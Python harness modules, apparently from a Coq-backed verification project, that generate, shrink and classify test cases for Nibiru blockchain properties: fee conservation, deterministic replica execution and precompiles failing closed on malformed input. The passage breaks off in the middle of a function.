            ks.append("in-evm-bank-send-to=" + (tx.get("pto") or "B") + ("/after-CALL-to-it" if tx["mode"] == 9 else ""))
        if tx["target"] == "w":
            ks.append("w:wasm-execute/funds=%s%s" % ("0" if int(tx.get("wamt") or 0) == 0 else "unibi", "/bad-msg" if tx.get("wbad") else ""))
        if tx["target"] == "f":
            ks.append("f:%s/init=%s/prefund=%s/endow=%s" % ("create2" if tx.get("fc2") else "create", tx.get("finit"),
                                                             "0" if int(tx.get("fv") or 0) == 0 else "yes", "0" if int(tx.get("fe") or 0) == 0 else "yes"))
        if tx["target"] == "z":
            zf = set()
            seen_refused[0] = False
            _zfeatures(tx.get("zsteps"), bool(tx.get("zrev")), zf)
            ks.extend(sorted(zf) or ["z:no-precompile-call"])
            ks.append("z:top-level-" + ("reverts" if tx.get("zrev") else "kept"))
        if tx["target"] == "d":
            kills = sum(1 for st in tx.get("steps") or [] if st["mode"] in (4, 5))
            ks.append("d:selfdestructs_in_one_tx=%d" % kills)
        p = _eff_price(tx, int(d["basefee"]))
        ks.append("price:" + ("base" if p == int(d["basefee"]) else ("multiple" if p % K == 0 else "odd")))
        nominal = int(tx["cap"]) if tx["ty"] == 2 else int(tx["gp"])
        if nominal < int(d["basefee"]):
            ks.append("nominal-price-below-base/type=%d" % tx["ty"])
        v = int(d["value"])
        ks.append("value:" + ("0" if v == 0 else ("sub-unibi" if v < K else ("whole" if v % K == 0 else "remainder"))))
        if inb:
            continue
        ds = int(o["supply_after"]) - int(o["supply_before"])
        ks.append("supply_delta:" + ("0" if ds == 0 else ("neg" if ds < 0 else "POS")))
    return ks


def describe(rec):
    return {"input": rec["input"], "derived": rec["der"], "observed": rec["obs"]}


def signature(rec):
    kinds = sorted({tx["target"] + (str(tx["mode"]) if tx["target"] == "x" else "") for tx, _, _, _ in _flat(rec)}
                   | ({"bundle"} if any(_is_bundle(tx) for tx in rec["input"]["txs"]) else set()))
    pos = any(int(o["supply_after"]) > int(o["supply_before"]) for o in rec["obs"])
    return {"kind": "supply-increase" if pos else "fee-or-conservation", "targets": kinds}


def input_size(inp):
    return len(inp["txs"]) * 100 + sum(80 * len(tx.get("bundle") or []) for tx in inp["txs"]) + sum(len(tx["gp"]) + len(tx["value"]) + len(tx["w"]) + 50 * len(tx.get("steps") or []) for tx in inp["txs"])


def shrink_candidates(inp):
    out = []
    txs = inp["txs"]
    if len(txs) > 1:
        for i in range(len(txs)):
            out.append(dict(inp, txs=txs[:i] + txs[i + 1:]))
    for i, tx in enumerate(txs):
        bd = tx.get("bundle") or []
        if len(bd) > 2:
            for j in range(len(bd)):
                out.append(dict(inp, txs=txs[:i] + [dict(tx, bundle=bd[:j] + bd[j + 1:])] + txs[i + 1:]))
        if bd:
            continue
        st = tx.get("steps") or []
        if len(st) > 1:
            for j in range(len(st)):
                out.append(dict(inp, txs=txs[:i] + [dict(tx, steps=st[:j] + st[j + 1:])] + txs[i + 1:]))
        for k, v in (("gp", "1000000000000"), ("value", "0"), ("w", "0"), ("ty", 0), ("gasmode", "ample")):
            if tx.get(k) != v:
                out.append(dict(inp, txs=txs[:i] + [dict(tx, **{k: v})] + txs[i + 1:]))
    return out


MANIFEST = {
    "level_claimed": {
        "category": "proof",
        "text": ("Coq theorems for ALL fee parameters, gas limits, values, bank states and EVM effect scripts: "
                 "C05_net_payment_bounds (prepay - refund, both truncated to unibi, is within 1 unibi of gasUsed x effective price, "
                 ">= 0 and <= prepay), C05_supply_never_increases (any history; floor-sum argument over the commit model with "
                 "mint/burn as in SetAccBalance), C05_closed_system, C05_supply_exact_when_whole_unibi, C05_payer_equals_collector, "
                 "C05_failed_tx_changes_only_fee_and_nonce, C05_bundle_satisfies_PB (ONE Cosmos tx with any number of MsgEthereumTx of any "
                 "signers: every signer pays for ITS OWN messages within 1 unibi per message, collector gain = sum of the signers' "
                 "payments), C05_x_deliver_satisfies_P / C05_x_supply_never_increases / C05_x_failed_tx_changes_only_fee / "
                 "C05_x_reverted_frame_invisible (the EVM phase on its two ledgers - StateDB wei balances and the cache-context bank - for ALL "
                 "scripts of transfers, kept or reverted call frames and Nibiru precompile calls, with SetAccBalance as mint-to-module + "
                 "send and the intermediate flush failing half-way at bank-blocked module accounts), C05_flush_before_journal_refuted "
                 "(the order flush-then-journal in OnRunStart mints), all obtained from C05_deliver_satisfies_P over a ledger model of ante + "
                 "msg server + commit + refund. Constants and the provenance of prepayment/refund are re-extracted from /repo on "
                 "every run (Gen/C05Facts.v, incl. the order journal-entry-before-flush in precompile.OnRunStart); the model is compared with real "
                 "DeliverTx measurements (supply, 19 balances, GasUsed) "
                 "and the proved-sound checker Pb is evaluated on those measurements."),
        "design_ref": "DESIGN.md §5 C05",
    },
    "level_note": ("The EVM interpreter is not modelled: gasUsed, intrinsic gas and the script of effects of a successful run "
                   "(known for the driver's hand-assembled contracts) are parameters; theorem hypotheses: 0 <= gasUsed <= gasLimit, "
                   "the run does not touch the fee collector, balances >= 0; in the two-ledger model the per-tx limit of precompile calls, nested "
                   "precompile calls and dirty counts are not modelled (C04). How GasUsed itself is computed (EIP-3529 cap) is outside this property (C03); the cap is extracted as an "
                   "informational fact only. Interpretation: a tx failing after ante without a response pays the whole prepayment (stated in P). "
                   "Trusted: Coq kernel + vm_compute, the extractor, the driver (bank keeper reads, event parsing), the plugin."),
    "technique": "Coq proof (integer arithmetic + ledger sum invariants) + generated facts + differential correspondence on ABCI measurements",
}
