"""C01 — replicated execution is deterministic across all modules."""
import os

ID = "C01"
GEN = "c01"
# the generator needs golang.org/x/tools (go/packages + go/types): own module
GEN_DIR = os.path.join(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__)))), "harness", "gen", "c01")
GEN_PKG = "."
HARNESS_TEST = "TestC01"
COQ_MODEL = ["C01/Check.v", "C01/FactsCfg.v", "Gen/C01Facts.v"]
COQ_PROOF_DEPS = ["C01/Proofs.v", "C01/SiteClasses.v"]
COQ_OBLIG = ["C01/Property.v", "Gen/C01Oblig.v"]
CASES_HEADER = ("Require Import Nib.C01.Sites Nib.C01.Model Nib.C01.Spec Nib.C01.Check Nib.C01.FactsCfg Nib.Gen.C01Facts.\n"
                "Definition current_cfg : cfg := Eval vm_compute in cfg_of_facts map_sites toslice_uses conc_sites.")
CASE_TYPE = "case"
MISMATCH_FN = "mismatch current_cfg"
VIOLATES_FN = "violates"
RULE = ("diff cases = one generated history of 9-13 blocks (oracle prevote/vote by 3 validators, sudo EditSudoers with 3-6 "
        "contracts, EVM transfers / deploys / calls writing 1-5 slots and paying 0-4 fresh accounts, FunToken create/convert, "
        "precompile calls, messages that FAIL WHILE EXECUTING in every module (FunToken convert above balance / by a non-holder / wrong direction, CreateFunToken without metadata or from a non-ERC20 address, bank / delegate above balance, EVM value above balance, gas below intrinsic, future nonce, over-large sendToBank), restarts of the perturbed replica placed right after such failures with EVM traffic first thing afterwards, EOA->precompile txs with unknown selectors / truncated / malformed calldata for all three precompiles (VM error inside ResponseDeliverTx.Data), single txs that pay 2-12 fresh accounts and THEN call a Nibiru precompile (intermediate StateDB commit), sudo-gated oracle / inflation param edits, tokenfactory (sudo) denom metadata, gov proposals updating evm / devgas params (voted and executed), EVM access lists - every repeated message field with 6-15 entries in random order WITH DUPLICATES -, tokenfactory, authz grant/exec, delegate, bank send/multisend, day jumps for epochs+inflation; in one history of three (and a fixed opener) 3-6 wasm counter contracts registered for x/devgas fee share with withdrawers that have NO account yet, re-registered to new fresh withdrawers, and single txs carrying 2-6 MsgExecuteContract so that the dev-gas ante pays - and creates the accounts of - several withdrawers in one tx) "
        "executed on 3 replicas from one genesis through BeginBlock/DeliverTx/EndBlock/Commit (one history in four, and a fixed "
        "dense-oracle opener, also on a SLOW replica: short delays at every n-th store operation through a slow store-tracer sink, and "
        "1.1-2 s stalls at BeginBlock/EndBlock store operations executed while an application goroutine is alive), compared per block on app hash, "
        "tx results and validator updates; non-trivial = the history successfully ran a multi-contract sudo edit AND an oracle "
        "vote round AND (an EVM call/deploy or a bank multisend that creates >= 2 accounts in one tx). Sub-model cases (sudo, "
        "omap, SortedKeys, ABI selectors, TotalRewardWeight): non-trivial = at least two keys in the map; distinct = distinct input. "
        "range cases: omap.SortedMap.Range over 0-8 keys consumed by a fast consumer, one waiting 0-12 ms between receives and (1 in 16) "
        "one stalling 1.1-2.4 s before one receive; non-trivial = at least two keys and some consumer really waited")
ASSUMPTIONS = [
    "in-process replicas see independent Go map iteration orders (Go randomises every range statement); memory layout is "
    "exhibited only as far as in-process replicas and the separate-process replica differ in it",
    "wall clock / goroutine timing: the theorems quantify over ALL clocks of the loops consuming omap.Range (the only goroutine "
    "hand-over on the block-execution path, per the generated conc_sites inventory); the slow replica exhibits stalls of at most "
    "2 s (quick) / 3.5 s (thorough) at store operations of BeginBlock/EndBlock while an application goroutine is alive, and short "
    "delays elsewhere - a timeout longer than that is caught by the inventory obligation only",
    "the app-hash is a function of the committed KV content of all stores (IAVL); modelled as: any function of the state",
    "package scope (consensus vs rpc/cli/test tooling) is decided by the package path in the fact generator",
]
TRUSTED = [
    "fact generator harness/gen/c01 (golang.org/x/tools/go/packages v0.29.0 + go/types): inventory and syntactic classification "
    "of map-range sites, set.Set.ToSlice uses, time.Now / math/rand / go-statement sites, and of every channel operation / select / "
    "timer / timeout / deadline / sync / atomic / runtime construct (conc_sites)",
    "conc_table in coq/C01/SiteClasses.v: the classes KJQueryOnly / KJInitOnly / KJErrorText are argued, not proved",
    "the slow replica is the same NibiruApp built with loadLatest=false, BeginBlocker/EndBlocker wrapped (context multistore whose "
    "operations sleep), then LoadLatestVersion; runtime.NumGoroutine() decides where long stalls are taken",
    "cosmos-sdk, CometBFT ABCI types, IAVL, geth interpreter: executed, not modelled",
]
# GasUsed of txs rejected BEFORE the ante handler (GasWanted = 0) is compared on its own channel: baseapp reports the block
# context's gas meter for them, so anything BeginBlock did differently on one node used to leak into LastResultsHash (restart
# findings: x/capability mem-store re-initialisation +27843, x/upgrade downgrade check +30).  /repo b776679 runs the module
# BeginBlockers on their own meter; the channel is strict: any difference is a violation.
STRICT_PREANTE_GAS = True


def _preante_strict(obs):
    return STRICT_PREANTE_GAS


HARNESS_TIMEOUT = {"quick": 420, "thorough": 7200}


def _z(n):
    return "(%d)%%Z" % int(n)


def _zl(xs):
    return "[" + "; ".join(_z(x) for x in xs) + "]"


def _nl(xs):
    return "[" + "; ".join("%d%%nat" % int(x) for x in xs) + "]"


def _b(x):
    return "true" if x else "false"


def to_coq_case(rec):
    inp, obs = rec["input"], rec["obs"]
    t = inp["t"]
    if t == "diff":
        return "(CDiff [%s] [%s] %s)" % ("; ".join(_nl(r) for r in obs["replicas"]),
                                         "; ".join(_nl(r) for r in obs.get("preante_gas", [])), _b(_preante_strict(obs)))
    if t == "sudo":
        steps = []
        for st, ob in zip(inp["steps"], obs["steps"]):
            steps.append("mk_sudo_step %s %s %s %s" % (_b(st["add"]), _zl(ob["cs"]), _b(ob["ok"]), _zl(ob["after"])))
        return "CSudo %s [%s]" % (_zl(obs["init"]), "; ".join(steps))
    if t == "omap":
        items = []
        for op, seen in zip(inp["ops"], obs):
            ks = op.get("ks") or []
            o = {"build": "OBuild " + _zl(ks), "union": "OUnion " + _zl(ks),
                 "set": "OSet " + _z(ks[0] if ks else 0), "del": "ODelete " + _z(ks[0] if ks else 0)}[op["op"]]
            items.append("(%s, %s)" % (o, _zl(seen)))
        return "COmap [" + "; ".join(items) + "]"
    if t == "skeys":
        return "CSortedKeys %s %s" % (_zl(inp.get("keys") or []), _zl(obs))
    if t == "abi":
        return "CAbi [%s] [%s]" % ("; ".join("(%s, %s)" % (_z(a), _z(b)) for a, b in obs["methods"]),
                                   "; ".join("(%s, %s)" % (_z(a), _z(b)) for a, b in obs["lookups"]))
    if t == "tw":
        return "CTotalWeight [%s] %s" % ("; ".join("(%s, %s)" % (_z(a), _z(b)) for a, b in (inp.get("ws") or [])), _z(obs))
    if t == "range":
        runs = ["(%s, %s)" % (_zl(d), _zl(got)) for d, got in zip(inp.get("delays") or [], obs)]
        return "CRange %s [%s]" % (_zl(inp.get("keys") or []), "; ".join(runs))
    raise ValueError("unknown case type " + t)


def nontrivial(rec):
    inp, obs = rec["input"], rec["obs"]
    t = inp["t"]
    if t == "diff":
        k = obs.get("kinds", {})
        multi_acct = k.get("call/ok", 0) + k.get("multisend/ok", 0) + k.get("deploy/ok", 0) + k.get("callpc/ok", 0) > 0
        return k.get("sudo/ok", 0) > 0 and k.get("oracle/ok", 0) >= 4 and multi_acct
    if t == "sudo":
        return any(ob["ok"] and len(ob["after"]) >= 2 for ob in obs["steps"])
    if t == "omap":
        return any(len(s) >= 2 for s in obs)
    if t == "skeys":
        return len(obs) >= 2
    if t == "abi":
        return len(obs["methods"]) >= 2
    if t == "tw":
        return len(inp.get("ws") or []) >= 2
    if t == "range":
        # at least two keys handed over while some consumer really waited between two receives
        return len(set(inp.get("keys") or [])) >= 2 and any(any(d > 0 for d in c) for c in (inp.get("delays") or []))
    return False


def classify(rec):
    inp, obs = rec["input"], rec["obs"]
    t = inp["t"]
    ks = ["type:" + t]
    if t == "diff":
        ks.append("blocks=%d" % len(inp["blocks"]))
        for k, n in obs.get("kinds", {}).items():
            ks += ["tx:" + k] * n
        ks.append("blocks_with_validator_updates=%d" % obs.get("nvalupd", 0))
        ks.append("replicas_agree" if all(r == obs["replicas"][0] for r in obs["replicas"]) else "replicas_differ")
        pa = obs.get("preante_gas") or [[]]
        if not all(r == pa[0] for r in pa):
            ks.append("finding:gasused_of_tx_rejected_before_ante_differs_on_restarted_replica/delta=%d" % obs.get("preante_max_delta", 0))
        ks.append("perturbation:queries_answered_by_replica1=%d" % (obs.get("queries") or [0, 0])[1])
        ks.append("perturbation:restarts_of_replica2=%d" % obs.get("restarts", 0))
        ks.append("perturbation:checktx_on_replica2=%d" % obs.get("checktxs", 0))
        if obs.get("slow"):
            ks.append("perturbation:slow_replica/long_stalls=%d" % obs.get("slow_stalls", 0))
            ks.append("perturbation:slow_replica/short_delays>0" if obs.get("slow_short", 0) > 0 else "perturbation:slow_replica/no_short_delays")
        for b in inp["blocks"]:
            if b.get("dt", 5) > 3600:
                ks.append("day_jump")
    elif t == "sudo":
        for st, ob in zip(inp["steps"], obs["steps"]):
            ks.append("sudo:%s/%s/n=%d" % ("add" if st["add"] else "remove", "ok" if ob["ok"] else "rejected", min(len(st["cs"]), 7)))
    elif t == "omap":
        for op in inp["ops"]:
            ks.append("omap:" + op["op"])
    elif t == "range":
        longest = max([d for c in (inp.get("delays") or []) for d in c] or [0])
        ks.append("range:longest_wait=" + ("0" if longest == 0 else "<=10ms" if longest <= 10 else "<=1s" if longest <= 1000 else ">1s"))
        ks.append("range:consumers_agree" if all(g == obs[0] for g in obs) else "range:consumers_differ")
    return ks


def describe(rec):
    inp, obs = rec["input"], rec["obs"]
    if inp["t"] == "diff":
        return {"type": "diff", "blocks": len(inp["blocks"]), "first_block": inp["blocks"][0] if inp["blocks"] else None,
                "replica_ids": obs["replicas"], "preante_gas_ids": obs.get("preante_gas"), "queries": obs.get("queries"),
                "restarts": obs.get("restarts"), "checktxs": obs.get("checktxs"), "differs": obs.get("differs"), "tx_kinds": obs.get("kinds"),
                "slow_replica": ({"plan": inp.get("lag"), "yield_points": obs.get("slow_yields"), "long_stalls": obs.get("slow_stalls"),
                                  "short_delays": obs.get("slow_short")} if obs.get("slow") else None)}
    return {"input": inp, "observed": obs}


def signature(rec):
    inp, obs = rec["input"], rec["obs"]
    if inp["t"] == "diff":
        main_agree = all(r == obs["replicas"][0] for r in obs["replicas"])
        if main_agree:
            return {"kind": "replicas-differ", "cause": "gasused-of-tx-rejected-before-ante-after-restart",
                    "delta": int(obs.get("preante_max_delta", 0))}
        return {"kind": "replicas-differ", "where": sorted(d for d in (obs.get("differs") or []) if not d.startswith("tx#"))}
    return {"kind": "submodel-" + inp["t"]}


def input_size(inp):
    if inp["t"] == "diff":
        return (sum(10 + 10 * len(b["ops"]) + sum(len(o.get("l") or []) for o in b["ops"]) for b in inp["blocks"])
                + (1 if inp.get("child") else 0) + (0 if inp.get("plain") else 1))
    import json
    return len(json.dumps(inp))


def shrink_candidates(inp):
    if inp["t"] == "range":
        keys, delays = inp.get("keys") or [], inp.get("delays") or []
        out = [dict(inp, keys=keys[:i] + keys[i + 1:]) for i in range(len(keys))]
        out += [dict(inp, delays=delays[:i] + delays[i + 1:]) for i in range(1, len(delays)) if len(delays) > 2]
        return out
    if inp["t"] != "diff":
        return []
    out = []
    blocks = inp["blocks"]
    if inp.get("lag"):
        # every candidate costs the slow replica's stalls: few candidates, the decisive simplifications first
        if inp.get("child"):
            out.append(dict(inp, child=False))
        if not inp.get("plain"):
            out.append(dict(inp, plain=True, child=False))
        for n in (len(blocks) // 2, len(blocks) - 1):
            if 0 < n < len(blocks):
                out.append(dict(inp, blocks=blocks[:n]))
        for k in sorted({o["kind"] for b in blocks for o in b["ops"]} - {"oracle"}):
            out.append(dict(inp, blocks=[dict(b, ops=[o for o in b["ops"] if o["kind"] != k]) for b in blocks]))
        for i in range(len(blocks)):
            if len(blocks) > 1:
                out.append(dict(inp, blocks=blocks[:i] + blocks[i + 1:]))
        return out[:14]
    # drop trailing blocks, then single blocks, then ops (histories are long: keep the candidate list short)
    for n in (len(blocks) // 2, len(blocks) - 1):
        if 0 < n < len(blocks):
            out.append(dict(inp, blocks=blocks[:n]))
    for i in range(len(blocks)):
        if len(blocks) > 1:
            out.append(dict(inp, blocks=blocks[:i] + blocks[i + 1:]))
    for bi, b in enumerate(blocks):
        kinds = sorted({o["kind"] for o in b["ops"]})
        for k in kinds:
            nb = dict(b, ops=[o for o in b["ops"] if o["kind"] != k])
            out.append(dict(inp, blocks=blocks[:bi] + [nb] + blocks[bi + 1:]))
    return out[:24]


def model_search(chk):
    """Targeted histories for the sites whose mechanism flag the theorems need (used when an obligation or the
    correspondence broke and the generated run did not diverge): many-contract sudo edits, EVM calls creating
    several accounts and slots in one commit, dense oracle rounds; each also in a separate process."""
    sudo = {"t": "diff", "child": True, "blocks": [
        {"dt": 5, "ops": [{"kind": "sudo", "a": 1, "b": 0, "c": 0, "l": [6 * b + j for j in range(6)]}]} for b in range(3)] + [
        {"dt": 5, "ops": [{"kind": "sudo", "a": 0, "b": 0, "c": 0, "l": [1, 7, 13]}]}]}
    evmh = {"t": "diff", "child": True, "blocks": [
        {"dt": 5, "ops": [{"kind": "deploy", "a": 0, "b": 5, "c": 4}, {"kind": "deploy", "a": 1, "b": 3, "c": 3}]}] + [
        {"dt": 5, "ops": [{"kind": "call", "a": 10 + b, "b": b % 2, "c": 16 * (5000 + 10 * b)},
                          {"kind": "multisend", "a": 1, "b": 0, "c": 3, "l": [70000 + 4 * b + j for j in range(4)]}]} for b in range(4)]}
    orc = {"t": "diff", "child": True, "blocks": [
        {"dt": 5, "ops": [{"kind": "oracle", "a": v, "b": 0, "c": 0, "l": [100 + (3 * b + v) % 7, 110 + (b + 2 * v) % 5, 0 if (b + v) % 4 == 0 else 105]}
                          for v in range(3)] + [{"kind": "delegate", "a": b % 4, "b": b % 3, "c": 1}]} for b in range(13)]}
    pch = {"t": "diff", "child": True, "blocks": [
        {"dt": 5, "ops": [{"kind": "deploy", "a": 0, "b": 2, "c": 12, "l": [1]}]}] + [
        {"dt": 5, "ops": [{"kind": "callpc", "a": b, "b": 0, "c": 16 * (9000 + 20 * b), "l": [b]}]} for b in range(1, 7)]}
    lists = {"t": "diff", "child": True, "blocks": [
        {"dt": 5, "ops": [{"kind": "oparams", "a": 0, "b": 0, "c": 0, "l": [(5 * b + 3 * j) % 14 for j in range(11)] + [0, 1, 2, (5 * b) % 14]},
                          {"kind": "iparams", "a": 0, "b": 0, "c": 0, "l": [1, 4, 4, 2, 7, b]},
                          {"kind": "govparams", "a": b % 2, "b": b % 4, "c": 0, "l": [3, 1, 4, 1, 5, 2, 6, 5, 3, b]},
                          {"kind": "sudo", "a": 1, "b": 0, "c": 0, "l": [2, 9, 4, 9, 17, 1, 22, 4, 11, b]}]} for b in range(8)]}
    raw = {"t": "diff", "child": True, "blocks": [
        {"dt": 5, "ops": [{"kind": "pcraw", "a": w, "b": w, "c": (b + w) % 8, "l": [17 * b + w]} for w in range(3)] +
                         [{"kind": "pcraw", "a": b, "b": b, "c": 0, "l": [b]}]} for b in range(6)]}
    # wall clock / goroutine timing: a replica that stalls inside the loops consuming omap.Range (dense oracle rounds), and the
    # producer goroutine itself against consumers that stall 1.3-2.5 s between two receives
    slow = {"t": "diff", "lag": {"base_us": 100, "every": 50, "stall_ms": 1600, "stalls": 2}, "blocks": [
        {"dt": 5, "ops": [{"kind": "oracle", "a": v, "b": 0, "c": 0, "l": [100 + (3 * b + v) % 7, 110 + (b + 2 * v) % 5, 105 + (b + v) % 3]}
                          for v in range(3)]} for b in range(9)]}
    rngs = [{"t": "range", "keys": [7, 3, 5, 9, 1], "delays": [[0] * 6, [0] * i + [1300 + 400 * i] + [0] * (5 - i)]} for i in range(1, 4)]
    # x/devgas ante: contracts registered for fee share with withdrawers that never held an account, several executed by ONE tx
    dg = {"t": "diff", "child": True, "blocks": [
        {"dt": 5, "ops": [{"kind": "wasmdeploy", "a": 0, "b": 0, "c": 6}] + [{"kind": "dgreg", "a": i, "b": 91000 + i, "c": 0} for i in range(6)]}] + [
        {"dt": 5, "ops": [{"kind": "dgreg", "a": (b + j) % 6, "b": 91100 + 10 * b + j, "c": 0} for j in range(3 if b > 1 else 0)] +
                         [{"kind": "wasmexec", "a": b % 4, "b": 0, "c": 0, "l": [(b + j) % 6 for j in range(2 + b % 5)]}]} for b in range(1, 7)]}
    return [dg, slow] + rngs + [pch, lists, raw, sudo, evmh, orc]


MANIFEST = {
    "level_claimed": {
        "category": "proof",
        "text": ("Partial. Coq theorem C01_determinism: for EVERY history of custom-module messages (sudo edits, EVM state commits, "
                 "oracle end-blocks, precompile registration/dispatch), ANY two schedules assigning an arbitrary permutation to "
                 "every execution of every map-range statement and ANY two wall clocks (the time the consumer of omap.Range spends "
                 "between two receives - no assumption), the modelled final state and all results are equal (hence every "
                 "function of them, C01_app_hash_deterministic) - given the mechanism flags (ToPb sorts, sortedDirties/SortedKeys/"
                 "ensureOrder sort, oracle tally goes through omap, the producer goroutine of omap.Range blocks on every send). "
                 "C01_range_blocking_complete / C01_range_send_timeout_refuted: a blocking producer hands over every key under every "
                 "clock; one that gives up after a bound does not. The flags are read off facts regenerated from /repo on every run "
                 "(go/types inventory of every `for range <map>`, every set.ToSlice use, every time.Now/rand/go site, every channel "
                 "operation / select / timer / timeout / deadline / sync / runtime query) and "
                 "C01_current_tree_deterministic is re-checked; every consensus-scope site must match a hand-reviewed table line "
                 "(shape + callees) whose justification class has a proved order-independence lemma, so a new or changed site "
                 "breaks an obligation even when execution happens to agree. Refutation theorems show the sudo sort and the dirties "
                 "sort are necessary. The real chain is tied by a replica differential (3 in-process + 1 separate-process replica + a "
                 "slow replica with injected wall-clock delays and stalls, "
                 "mixed-module block histories through ABCI, byte comparison of app hash / tx results / validator updates) and by "
                 "sub-model correspondence (sudo, omap, omap.Range under several consumer clocks, SortedKeys, ABI selectors, "
                 "TotalRewardWeight) under two schedules."),
        "design_ref": "DESIGN.md §5 C01",
    },
    "level_note": ("The theorems are about the schedule- and clock-parameterised model of the map-ranging sites and of omap.Range, not "
                   "about Go: memory layout, and timers / selects / sync primitives / runtime queries (none on the block-execution "
                   "path today) are only inventoried (generated facts, every site needs a reviewed table line) and exhibited "
                   "(replicas, one in another process, one slow). Trusted: Coq kernel + vm_compute; the go/packages fact generator and its path-based consensus/tooling "
                   "scope; the hand table coq/C01/SiteClasses.v (classes JLogOnly/JDebug/JViaUses are argued, not proved); the Go "
                   "driver's digests and order-preserving ids; cosmos-sdk/IAVL/geth/wasm executed, not modelled. c_tally_via_omap, "
                   "c_remove_via_omap, c_storage_sorted are sufficient but not necessary in the model. IBC not driven."),
    "technique": ("Coq proofs of schedule and clock independence (permutation/sort, commuting folds, unique match, omap invariant by "
                  "induction, blocking producer/consumer hand-over) over generated site facts + replica differential on ABCI traces "
                  "(incl. delay injection) + sub-model correspondence"),
}
