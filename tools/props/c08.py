"""C08 — Nibiru precompiles fail closed on any input and respect call context."""
import json

ID = "C08"
GEN = "c08"
HARNESS_TEST = "TestC08.*"
COQ_MODEL = ["C08/Check.v", "Gen/C08Facts.v"]
COQ_PROOF_DEPS = ["C08/Proofs.v", "C08/ProofsTx.v", "C08/Examples.v"]
COQ_OBLIG = ["C08/Property.v", "Gen/C08Oblig.v"]
CASES_HEADER = "Require Import Nib.C08.Model Nib.C08.Spec Nib.C08.Check Nib.Gen.C08Facts."
CASE_TYPE = "case"
MISMATCH_FN = "mismatch current_facts"
VIOLATES_FN = "violates current_facts"
RULE = ("case = one call to a Nibiru precompile, alone or as the LAST step of a transaction of several steps on one StateDB "
        "(38 % of the generated cases, 63 openers and 7 DeliverTx script transactions: 1-4 earlier steps - successful queries, successful state-changing calls, calls failing early, "
        "calls failing after partial writes, journaled EVM state changes (SSTORE / value transfer / log) - or 8-11 queries around the "
        "StateDB's budget of 10 precompile calls; the call under test then is a state-changing call failing AFTER partial writes to the bank / "
        "wasm stores [executeMulti with a rejected later message, execute / instantiate rejected after the funds moved, sendToBank whose final "
        "bank send is refused after MintCoins], a good state-changing call with the forwarded gas swept below its cost, a query, or any "
        "generated call; state_eq compares what the transaction commits with and without its last call); one call: (FunToken|Wasm|Oracle) x call kind (top-level evm.Call, CALL / STATICCALL / "
        "DELEGATECALL / CALLCODE issued by a hand-assembled forwarder contract, CALL below a STATICCALL frame) x attached value "
        "(0, 1 wei, 1 unibi) x forwarded gas (ample, RequiredGas-1, RequiredGas, RequiredGas+small, tiny) x calldata (empty, 1-3 bytes, "
        "unknown selector, every ABI method with well-formed hostile arguments / truncated / oversized / one ABI word overwritten / "
        "random payload); fixed openers = the historic failure shapes; non-trivial = the call reaches a method handler (selector "
        "known and ABI payload decodes) or is one of the short-calldata shapes, i.e. it exercises requiredGas/decomposeInput slicing, "
        "a context guard, an argument validator, a panic-capable constructor or the out-of-gas conversion; distinct = distinct input")
ASSUMPTIONS = [
    "geth's ABI decoder result for the calldata (decoded arguments, abstracted) is an oracle value computed by the harness with the same library call",
    "bech32 / tokenfactory-denom / JSON validity bits attached to decoded strings are computed by the library functions the code calls",
    "keeper-level bodies behind the validators (bank, wasm, ERC20 calls) are an oracle in the model: outcome class and gas used are read off the trace; "
    "their panic freedom is searched by the generator only",
    "reversal of the EVM side of the state (state objects) on a failed call is the StateDB journal of C04; reversal of the other modules' stores is "
    "modelled explicitly (journaled multistore snapshot per call, RevertToSnapshot) and the digest is compared after StateDB.Commit on branches of the world",
    "earlier steps of a transaction enter the model with their observed outcome class and gas only (their own effect on the stores is not compared; "
    "each kind of step is the call under test of other cases)",
]
TRUSTED = [
    "geth accounts/abi (used by the fact extractor for selectors and by the harness for decoding)",
    "canonical store digest: sha256 over all keys/values of the bank, evm, wasm, oracle KV stores; a contract storage slot holding the zero word "
    "counts as absent (the keeper never deletes storage entries, both encode the same EVM state)",
]
HARNESS_TIMEOUT = {"quick": 600, "thorough": 3600}

_MUTATING = {"sendToBank", "sendToEvm", "bankMsgSend", "execute", "instantiate", "executeMulti"}

_KIND = {"top": "KTop", "tx": "KTop", "txcall": "(KCall false)", "call": "(KCall false)", "nested": "(KCall true)", "static": "KStatic",
         "delegate": "KDelegate", "callcode": "KCallCode"}
_PC = ["PFunToken", "PWasm", "POracle"]
_CLASS = {"ok": "Ok", "err": "Err", "oog": "OutOfGas", "panic": "Panic"}


def _z(n):
    return "(%d)%%Z" % int(n)


def _bytes(bs):
    return "[" + "; ".join(str(int(b)) for b in bs) + "]%Z"


def _funds(fs):
    return "[" + "; ".join("(%s, %s)" % (_bytes(f["d"]), _z(f["a"])) for f in (fs or [])) + "]"


def _b(x):
    return "true" if x else "false"


def _arg(a):
    t = a["t"]
    if t == "addr":
        return "AAddr"
    if t == "uint":
        return "AUint %s" % _z(a.get("v", "0"))
    if t == "str":
        return "AStr %s %s %s %s" % (_bytes(a.get("s") or []), _b(a.get("b32")), _z(a.get("blen", 0)), _b(a.get("tf")))
    if t == "bytes":
        return "ABytes %s" % _b(a.get("json"))
    if t == "funds":
        return "AFunds %s" % _funds(a.get("funds"))
    if t == "msgs":
        return "AMsgs [%s]" % "; ".join("(%s, %s, %s)" % (_b(m["b32"]), _b(m["json"]), _funds(m["funds"])) for m in (a.get("msgs") or []))
    return "AAddr"


def _call(i, o):
    """Coq term of type `call`: one precompile call with what was observed of it (i: pc/kind/value/data, o: observation)"""
    data = bytes.fromhex(i.get("data", ""))
    unpack = "None"
    if o.get("unpack_ok"):
        unpack = "(Some [%s])" % "; ".join(_arg(a) for a in o.get("args") or [])
    inp = "{| i_len := (%d)%%Z; i_head := %s; i_unpack := %s |}" % (len(data), _bytes(data[:4]), unpack)
    pc = _PC[i["pc"] if 0 <= i.get("pc", 0) <= 2 else 0]
    kind = i.get("kind") or "top"
    value = int(i.get("value") or 0) if kind in ("top", "tx", "call", "callcode") else 0
    return ("{| c_reached := %s; c_pc := %s; c_kind := %s; c_value := %s; c_gas := %s; c_inp := %s; "
            "o_class := %s; o_left := %s; o_state_eq := %s; o_core_eq := %s; o_oog_panic := %s; o_cost := %s; o_mint_panic := %s |}") % (
        _b(o.get("reached")), pc, _KIND.get(kind, "KTop"), _z(value), _z(o.get("fwd", 0)), inp,
        _CLASS.get(o.get("class"), "Err"), _z(o.get("left", 0)), _b(o.get("state_eq", True)), _b(o.get("core_eq", True)), _b(o.get("panic_oog")),
        ("(Some %s)" % _z(o["cost"])) if o.get("cost") else "None", _b(o.get("panic_int")))


def to_coq_case(rec):
